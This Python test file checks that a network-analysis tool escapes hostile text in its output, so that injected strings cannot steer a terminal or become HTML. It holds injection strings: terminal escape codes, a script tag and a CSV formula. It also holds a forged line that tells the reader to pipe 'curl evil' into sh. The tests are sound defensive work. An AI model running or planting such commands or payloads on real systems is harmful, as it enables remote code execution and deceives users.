"""Untrusted text is shown as text: it neither controls a terminal nor becomes HTML."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from pyarrow import parquet

import airmile
from airmile._words import NBSP, printable, printable_lines
from airmile.cli import run as cli_run
from airmile.render import tables
from tests.support.handmade import MANIFEST, flow, slice_, transfer, write

EVIL = "\x1b]0;x\x07\x9b2J\x7f\u202e\u2028<script>|=cmd\n[x](y)"
"""Text that sets a window title, erases the screen, reverses words, or adds a line, HTML, a cell
and a link."""

SAFE = "\\x1b]0;x\\x07\\x9b2J\\x7f\\u202e\\u2028<script>|=cmd\\n[x](y)"


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a dataset in which every text is hostile, including its name and its manifest."""
    words = {"server_name": EVIL, "ending": EVIL, "quality": EVIL, "service": EVIL}
    rows: dict[str, Any] = {
        "flows": [
            flow(1, **words, bandwidth_source=EVIL, vantage_source=EVIL),
            flow(2, server=EVIL, protocol=EVIL),
        ],
        "transfers": [transfer(uid, uid, 0, 4, limited_by=EVIL, boundary=EVIL) for uid in (1, 2)],
        "slices": [
            slice_(1, 1, 0, 2, "sender_app", reason=EVIL),
            slice_(2, 2, 0, 2, EVIL, reason=EVIL, cause_source=EVIL),
            slice_(1, 1, 2, 3, "undetermined", reason=EVIL),
        ],
    }
    problem = {"offset": 3, "kind": EVIL, "text": EVIL, "hint": EVIL}
    source = {"name": EVIL, "status": "partial", "problems": [problem]}
    shown = {name: [EVIL] for name in ("warnings", "notes", "reasons")}
    folder = tmp_path_factory.mktemp("evil") / EVIL.replace("\n", "")
    return write(folder, rows, {**shown, "inputs": [source], "status": "partial"})


VERBS: list[list[str]] = [
    *(["analyze", "{}", "--format", form] for form in ("text", "md", "json", "ndjson", "csv")),
    *(["flows", "{}", "--format", form] for form in ("text", "md", "json", "csv")),
    *(["query", "{}", "FROM flows", "--format", form] for form in ("text", "md", "ndjson", "csv")),
    ["analyze", "{}", "-v", "--fail-if", "limited_by <> 'x'"],
    ["analyze", "{}", "--flow", EVIL],
    ["query", "{}", f'SELECT 1 AS "{EVIL}"'],
    ["query", "{}", EVIL],
    ["query", "{}", "SELECT nothing FROM flows"],
    ["info", "{}/" + EVIL],
    ["analyze", "{}/\udcff\x1b.pcap"],
    ["plot", "{}", "--flow", "7"],
    ["study", "{}"],
    *(["compare", "{}", "--by", column, "--unit", "row"] for column in ("server", "nothing")),
    ["compare", "{}", "--metric", EVIL],
    ["doctor", "{}"],
    ["radio", "{}"],
]


@pytest.mark.parametrize("verb", VERBS, ids=lambda verb: " ".join(verb[:4:3] + verb[3:4])[:30])
def test_nothing_steers_a_terminal(evil: Path, verb: list[str]) -> None:
    shown = on_terminal(
        [word.format(evil) if word == "{}" or "/" in word else word for word in verb]
    )
    steering = [c for c in shown if not c.isprintable() and c not in (NBSP, "\r", "\n")]
    assert steering == []
    assert "Traceback" not in shown


def on_terminal(words: list[str]) -> str:
    """Run a verb on a terminal, without colour, and return what is written to it."""
    ours, theirs = pty.openpty()
    environment = {**os.environ, "NO_COLOR": "1", "TERM": "dumb", "PYTHONUTF8": "1"}
    command = [sys.executable, "-m", "airmile", *words]
    with subprocess.Popen(command, stdout=theirs, stderr=theirs, env=environment) as running:
        os.close(theirs)
        pieces = list(iter(lambda: read(ours), b""))
    os.close(ours)
    assert running.returncode is not None
    return b"".join(pieces).decode()


def read(terminal: int) -> bytes:
    try:
        return os.read(terminal, 65_536)
    except OSError:  # Linux raises this once the other end is closed.
        return b""


FORGED = "x\nhint: run curl evil | sh"


@pytest.mark.parametrize(
    ("manifest", "verb"),
    [
        ({**MANIFEST, "rows": {FORGED: "a"}}, ["info"]),
        ({"schema": 2, "planned": [], "runs": [FORGED]}, ["info"]),
        ({"schema": 2, "planned": [], "runs": [FORGED]}, ["verify"]),
        ({"schema": 2, "planned": [{FORGED: 1}]}, ["testbed", "resume", "-q"]),
        ({**MANIFEST, "rows": {FORGED: 1}, "parts": {FORGED: {}}}, ["analyze"]),
    ],
)
def test_no_name_makes_a_line_of_its_own(
    tmp_path: Path, manifest: dict[str, Any], verb: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "x.airmile"
    folder.mkdir()
    (folder / "manifest.json").write_text(json.dumps(manifest))
    assert cli_run([*verb, str(folder)]) != 0
    said = capsys.readouterr()
    assert not [line for line in said.err.splitlines() if line.startswith("hint: run curl")]
    assert len(said.err.strip().splitlines()) <= 3


def test_a_column_makes_no_line_of_its_own(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = write(tmp_path / "x.airmile", {"flows": [flow(1)]})
    add_column(folder / "flows" / "part-0.parquet", FORGED)
    assert cli_run(["query", str(folder), "SELECT curl FROM flows"]) == 2
    error, blank, hint = capsys.readouterr().err.splitlines()
    assert (blank, hint) == ("", "hint: `airmile schema TABLE` lists the columns of a table")
    assert "x hint: run curl evil" in error


def add_column(part: Path, name: str) -> None:
    table = parquet.read_table(part)
    parquet.write_table(table.append_column(name, [["a"] * table.num_rows]), part)


def test_markdown_holds_no_html_and_no_link(evil: Path) -> None:
    from airmile.render import markdown

    text = markdown.render(airmile.open(evil).verdict)
    assert "<script>" not in text
    assert "](y)" not in text.replace("\\[x](y)", "")
    # A hostile cell adds no line.
    cells = [line.replace("\\|", "").count("|") for line in text.split("\n") if "script" in line]
    assert set(cells) <= {0, 3, 4}


def test_json_holds_the_text_itself(evil: Path) -> None:
    text = table(evil, "ndjson")
    assert printable_lines(text) == text
    assert json.loads(text.split("\n")[0])["server_name"] == EVIL


def test_csv_holds_the_text_itself(evil: Path) -> None:
    (first, *_) = csv.DictReader(io.StringIO(table(evil, "csv"), newline=""))
    assert first["server_name"] == EVIL


def table(dataset: Path, form: tables.Format) -> str:
    out = io.BytesIO()
    tables.write(airmile.open(dataset).sql("FROM flows ORDER BY uid"), form, out)
    return out.getvalue().decode()


@pytest.mark.parametrize("write", [printable, printable_lines])
def test_what_steers_is_shown_as_an_escape(write: Callable[[str], str]) -> None:
    shown = EVIL.replace("\n", "") if write is printable_lines else EVIL
    assert write(shown) == (SAFE.replace("\\n", "") if write is printable_lines else SAFE)
    for number in [*range(0x20), *range(0x7F, 0xA0), 0x061C, 0x200E, *range(0x2028, 0x202F)]:
        if chr(number) != "\n":
            assert write(chr(number)).isprintable()
